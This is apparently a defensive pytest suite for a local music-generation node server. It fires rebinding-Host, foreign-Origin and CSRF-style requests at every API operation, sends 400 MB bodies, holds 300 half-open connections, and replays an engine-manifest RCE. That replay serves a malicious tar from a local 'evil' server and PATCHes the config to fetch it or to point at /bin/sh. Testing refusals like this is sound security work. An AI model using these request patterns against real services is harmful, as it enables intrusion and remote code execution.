"""Attacks on a real node, as a web page or a stranger on the network would make them.

Run: .venv/bin/python tests/faults/run.py  (or: ./run-tests -m slow tests/faults/test_attack_faults.py -s)

For every operation in the node's own OpenAPI document: no token, a wrong token, a rebinding
``Host``, an empty ``Host``, a foreign ``Origin``, and (where a body goes) text/plain, form and
multipart bodies. A trial counts as refused only when the answer is the refusal it must be
(401, 403 or 415 — not any 4xx) *and* nothing changed: the queue, node.toml byte for byte, no
engine job, no file written in the node's home, the node still the same process. Then a 400 MB
body (memory measured), 300 half-open connections on a node started with macOS's 256
open files, and the engine-manifest RCE replayed.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

import httpx
import psutil
import pytest

from support.faults import NodeUnderTest
from support.procs import free_port

pytestmark = pytest.mark.slow

SONG = json.dumps(
    {"caption": "a web page's song", "duration": 600, "format": "wav32", "batch": 4}
).encode()
BODY_METHODS = {"POST", "PATCH", "PUT", "DELETE"}


def _send(port: int, lines: list[str], body: bytes = b"", timeout: float = 30) -> int:
    """One request exactly as written; the status code (0: no answer)."""
    head = "\r\n".join(lines + [f"Content-Length: {len(body)}", "Connection: close"])
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(head.encode("latin-1") + b"\r\n\r\n" + body)
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                return 0
            data += chunk
    return int(data.split(b" ", 2)[1])


def _home_files(home: Path) -> dict[str, str]:
    """Every file under the node's home but its logs (which record refusals), hashed."""
    out = {}
    for p in sorted(home.rglob("*")):
        if p.is_file() and "logs" not in p.relative_to(home).parts and not p.name.endswith(".lock"):
            out[str(p.relative_to(home))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _operations(node: NodeUnderTest, song_id: str) -> list[tuple[str, str]]:
    doc = httpx.get(node.url + "/openapi.json", headers=node.headers, timeout=10).json()
    ops = []
    for path, item in doc["paths"].items():
        for method in item:
            concrete = path.replace("{song_id}", song_id).replace("{name}", "acestep-v15-turbo")
            ops.append((method.upper(), concrete))
    return ops


def _attacks(
    port: int, token: str, method: str, path: str
) -> list[tuple[str, list[str], bytes, int]]:
    """(name, request lines, body, the refusal it must get)."""
    line = f"{method} {path} HTTP/1.1"
    own = f"Host: 127.0.0.1:{port}"
    auth = f"Authorization: Bearer {token}"
    json_type = "Content-Type: application/json"
    body = SONG if method in BODY_METHODS else b""
    attacks = []
    if (method, path) != ("GET", "/v1/health"):
        attacks += [
            ("no token", [line, own, json_type], body, 401),
            ("wrong token", [line, own, "Authorization: Bearer " + "A" * 43, json_type], body, 401),
        ]
    attacks += [
        ("rebinding Host", [line, f"Host: evil.example:{port}", auth, json_type], body, 403),
        ("empty Host", [line, "Host: ", auth, json_type], body, 403),
        ("port-only Host", [line, f"Host: :{port}", auth, json_type], body, 403),
        ("foreign Origin", [line, own, auth, json_type, "Origin: https://evil.example"], body, 403),
    ]
    if method in BODY_METHODS:
        attacks += [
            ("text/plain", [line, own, auth, "Content-Type: text/plain"], SONG, 415),
            (
                "form",
                [line, own, auth, "Content-Type: application/x-www-form-urlencoded"],
                b"caption=x&duration=600",
                415,
            ),
            (
                "multipart",
                [line, own, auth, "Content-Type: multipart/form-data; boundary=b"],
                b'--b\r\nContent-Disposition: form-data; name="c"\r\n\r\n'
                + SONG
                + b"\r\n--b--\r\n",
                415,
            ),
        ]
    return attacks


def test_every_operation_refuses_a_web_page_and_a_stranger(node_under_test, tally):
    node = node_under_test
    done = node.make_song()
    port, token = node.proc.port, node.proc.token
    before_files = _home_files(node.home)
    before_toml = (node.home / "node.toml").read_bytes()
    before_jobs = node.engine_jobs()
    before_songs = httpx.get(node.url + "/v1/songs", headers=node.headers).json()["songs"]
    pid = node.proc.pid
    ops = _operations(node, done["id"])
    assert len(ops) >= 15, ops

    t = tally(
        f"attack: {len(ops)} operations x no/wrong token, rebinding/empty Host, "
        f"foreign Origin, text/plain/form/multipart (refused)"
    )
    for method, path in ops:
        for name, lines, body, must in _attacks(port, token, method, path):
            status = _send(port, lines, body)
            changed = []
            if node.proc.pid != pid or not node.alive():
                changed.append("the node restarted or died")
            if node.engine_jobs() != before_jobs:
                changed.append("an engine job ran")
            if status != must:
                t.fail(f"{method} {path} [{name}]: {status}, not {must}")
            elif changed:
                t.fail(f"{method} {path} [{name}]: {', '.join(changed)}")
            else:
                t.ok()
    # nothing changed, checked once more over everything at the end
    assert (node.home / "node.toml").read_bytes() == before_toml
    assert httpx.get(node.url + "/v1/songs", headers=node.headers).json()["songs"] == before_songs
    assert _home_files(node.home) == before_files
    assert not t.lost, t.lost[:10]


def test_a_400_mb_body_is_refused_and_memory_stays_bounded(node_under_test, tally):
    node = node_under_test
    proc = psutil.Process(node.proc.pid)
    t = tally("attack: 400 MB bodies, declared and chunked (413, node RSS +20 MB at most)")
    rss0 = proc.memory_info().rss
    port, token = node.proc.port, node.proc.token
    chunk = b" " * 2**20

    def declared() -> int:
        with socket.create_connection(("127.0.0.1", port), timeout=30) as s:
            s.sendall(
                (
                    f"POST /v1/songs HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
                    f"Authorization: Bearer {token}\r\nContent-Type: application/json\r\n"
                    f"Content-Length: {400 * 2**20}\r\n\r\n"
                ).encode()
            )
            sent = 0
            try:
                while sent < 400 * 2**20:
                    s.sendall(chunk)
                    sent += len(chunk)
            except OSError:
                pass  # the node answered and closed: the rest is never read
            return int(s.recv(4096).split(b" ", 2)[1] or 0)

    def chunked() -> int:
        def gen():
            for _ in range(400):
                yield chunk

        try:
            r = httpx.post(
                node.url + "/v1/songs",
                content=gen(),
                timeout=60,
                headers={**node.headers, "Content-Type": "application/json"},
            )
            return r.status_code
        except httpx.HTTPError:
            return 0

    peaks = []
    for attempt in (declared, chunked, declared, chunked):
        status = attempt()
        grown = (proc.memory_info().rss - rss0) / 2**20
        peaks.append(grown)
        if status == 413 and grown <= 20:
            t.ok()
        else:
            t.fail(f"{attempt.__name__}: {status}, RSS +{grown:.0f} MB")
    print(f"\nnode RSS growth after each 400 MB body: {', '.join(f'{p:.1f}' for p in peaks)} MB")
    assert node.alive() and not t.lost


def test_300_half_open_connections_do_not_stop_health(tmp_path, tally):
    """macOS starts a process with 256 open files; the node raises its limit at start-up,
    drops headers that never end, and keeps answering."""
    import resource

    home = tmp_path / "home"
    node = NodeUnderTest(home)
    port = node.proc.port
    env = {**os.environ, **(node.proc.env or {})}
    env.pop("CANTOR_NODE_TOKEN", None)

    def low_limit():
        resource.setrlimit(
            resource.RLIMIT_NOFILE, (256, resource.getrlimit(resource.RLIMIT_NOFILE)[1])
        )

    from cantor_desktop.system.selfexec import self_argv

    child = subprocess.Popen(
        self_argv("node") + ["--host", "127.0.0.1", "--port", str(port)],
        env=env,
        preexec_fn=low_limit,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    t = tally(
        "attack: 300 half-open connections on a node started with 256 open files "
        "(health answers within 1 s)"
    )
    socks: list[socket.socket] = []
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/v1/health", timeout=1).status_code == 200:
                    break
            except httpx.HTTPError:
                time.sleep(0.1)
        soft = psutil.Process(child.pid).rlimit(psutil.RLIMIT_NOFILE)[0]
        for _round in range(3):
            for _ in range(100):
                s = socket.create_connection(("127.0.0.1", port), timeout=5)
                s.sendall(f"POST /v1/songs HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n".encode())
                socks.append(s)
            start = time.monotonic()
            try:
                ok = httpx.get(f"http://127.0.0.1:{port}/v1/health", timeout=1).status_code == 200
            except httpx.HTTPError:
                ok = False
            took = time.monotonic() - start
            if ok and took <= 1.0:
                t.ok()
            else:
                t.fail(
                    f"after {len(socks)} half-open: health {'slow' if ok else 'failed'} "
                    f"({took:.2f} s)"
                )
        # the half-sent requests are dropped once their headers are late
        from cantor_desktop.node.server import HEADER_TIMEOUT_S

        deadline = time.monotonic() + HEADER_TIMEOUT_S + 10
        closed = 0
        for s in socks:  # each recv returns when the node closes that connection
            s.settimeout(max(0.1, deadline - time.monotonic()))
            try:
                closed += s.recv(1) == b""
            except TimeoutError:
                pass
            except OSError:  # reset by the node: dropped too
                closed += 1
        if closed == len(socks):
            t.ok()
        else:
            t.fail(
                f"{len(socks) - closed} half-open connections still held "
                f"{HEADER_TIMEOUT_S + 10:g} s after the last was opened"
            )
        print(
            f"\nnode open-file limit after start-up: {soft} (started with 256); "
            f"{closed}/{len(socks)} half-open connections dropped"
        )
        assert soft > 256
    finally:
        for s in socks:
            s.close()
        child.terminate()
        child.wait(10)
    assert not t.lost, t.lost


def test_the_manifest_rce_replayed_runs_nothing(tmp_path, tally):
    """The page PATCHed engines.manifest (or engines.acestep.path) to its own, then asked for
    a backend; the node downloaded the page's archive and the trial load ran its program."""
    import io
    import tarfile

    marker = tmp_path / "pwned"
    script = f"#!/bin/sh\ntouch {marker}\nexit 1\n".encode()
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as tf:
        info = tarfile.TarInfo("ace-server")
        info.size, info.mode = len(script), 0o755
        tf.addfile(info, io.BytesIO(script))
    archive = tar.getvalue()
    hits: list[str] = []

    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    evil_port = free_port()
    manifest = {
        "schema": 1,
        "families": {
            "acestep": [
                {
                    "backend": b,
                    "os": "linux",
                    "arch": a,
                    "version": "v9",
                    "archive": "tar.gz",
                    "url": f"http://127.0.0.1:{evil_port}/evil.tar.gz",
                    "executable": "ace-server",
                    "sha256": hashlib.sha256(archive).hexdigest(),
                    "size": len(archive),
                }
                for b in ("cpu", "vulkan", "cuda12")
                for a in ("x86_64", "arm64")
            ]
        },
    }

    class Evil(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            data = archive if self.path.endswith(".tar.gz") else json.dumps(manifest).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *a):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", evil_port), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    node = NodeUnderTest(tmp_path / "home").start()
    t = tally("attack: the engine-manifest RCE replayed (every step refused, nothing ran)")
    try:
        port, token = node.proc.port, node.proc.token
        toml = (node.home / "node.toml").read_bytes()
        steps = [
            (
                "PATCH manifest, rebinding",
                [
                    "PATCH /v1/config HTTP/1.1",
                    f"Host: evil.example:{port}",
                    f"Authorization: Bearer {token}",
                    "Content-Type: application/json",
                ],
                json.dumps({"engines.manifest": f"http://127.0.0.1:{evil_port}/m.json"}).encode(),
                403,
            ),
            (
                "PATCH manifest, text/plain",
                [
                    "PATCH /v1/config HTTP/1.1",
                    f"Host: 127.0.0.1:{port}",
                    "Content-Type: text/plain",
                ],
                json.dumps({"engines.manifest": f"http://127.0.0.1:{evil_port}/m.json"}).encode(),
                401,
            ),
            (
                "PATCH manifest, with the token",
                [
                    "PATCH /v1/config HTTP/1.1",
                    f"Host: 127.0.0.1:{port}",
                    f"Authorization: Bearer {token}",
                    "Content-Type: application/json",
                ],
                json.dumps({"engines.manifest": f"http://127.0.0.1:{evil_port}/m.json"}).encode(),
                403,
            ),
            (
                "PATCH engine path, with the token",
                [
                    "PATCH /v1/config HTTP/1.1",
                    f"Host: 127.0.0.1:{port}",
                    f"Authorization: Bearer {token}",
                    "Content-Type: application/json",
                ],
                json.dumps({"engines.acestep.path": "/bin/sh"}).encode(),
                403,
            ),
            (
                "use cpu, rebinding",
                [
                    "POST /v1/backends/use HTTP/1.1",
                    f"Host: evil.example:{port}",
                    f"Authorization: Bearer {token}",
                    "Content-Type: application/json",
                ],
                b'{"backend":"cpu"}',
                403,
            ),
            (
                "install, form body",
                [
                    "POST /v1/backends/install HTTP/1.1",
                    f"Host: 127.0.0.1:{port}",
                    "Content-Type: application/x-www-form-urlencoded",
                ],
                b"family=acestep",
                401,
            ),
        ]
        for name, lines, body, must in steps:
            status = _send(port, lines, body)
            if status == must:
                t.ok()
            else:
                t.fail(f"{name}: {status}, not {must}")
        time.sleep(1.0)
        if hits or marker.exists():
            t.fail(f"the page's server was asked for {hits}; program ran: {marker.exists()}")
        if (node.home / "node.toml").read_bytes() != toml:
            t.fail("node.toml changed")
    finally:
        node.stop()
        server.shutdown()
    assert not t.lost, t.lost
